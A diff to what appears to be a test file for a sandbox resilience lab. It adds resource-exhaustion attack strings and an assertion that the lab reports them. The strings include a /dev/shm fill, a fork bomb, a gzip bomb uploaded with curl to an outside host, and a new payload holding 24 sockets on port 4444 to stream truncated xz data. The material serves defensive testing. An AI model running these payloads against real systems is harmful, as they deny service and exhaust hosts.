@@ -45,8 +45,15 @@ DONE = {
         "    os.close(os.open(f'{i}', os.O_CREAT | os.O_WRONLY))\n"
         "    if i % 1000 == 999: os.chdir('/tmp/small')"
     ),
-    "shared memory": "head -c 1G /dev/zero >/dev/shm/fill; sleep 5; rm /dev/shm/fill",
+    "shared memory": "head -c 1G /dev/zero >/dev/shm/fill; rm /dev/shm/fill",
     "a bomb": "head -c 300M /dev/zero | gzip -1 | gzip -1 >/tmp/bomb; curl -sS -T /tmp/bomb https://$drop/in/bomb",
+    "dictionaries": "head -c 90M /dev/zero | xz -9 >/tmp/zeros.xz\n"
+    + PYTHON.format(
+        "packed = open('/tmp/zeros.xz', 'rb').read()[:-40]\n"
+        "held = [socket.create_connection((sys.argv[1], 4444)) for i in range(24)]\n"
+        "for s in held: s.sendall(packed)\n"
+        "time.sleep(20)"
+    ),
     "processes": PYTHON.format(
         "held = []\ntry:\n    while True:\n        held.append(os.fork())\n        if held[-1] == 0: time.sleep(3); os._exit(0)\n"
         "except OSError: time.sleep(4)"
@@ -109,6 +116,7 @@ def test_the_attacks_are_told(attacked: tuple[Lab, Chain, dict[str, str]]) -> No
     said = [f"{fact.where} {fact.what}" for fact in of(chain, Limit)]
     assert [line for line in said if "folders deep" in line]
     assert [fact for fact in of(chain, Space) if fact.place == "/dev/shm" and fact.free_bytes < 16 << 20]
+    assert [line for line in said if "open at once" in line]
     found = [finding.summary for finding in lab.findings(chain) if finding.asset == "witness"]
     assert [summary for summary in found if "worn the witness out" in summary]
 
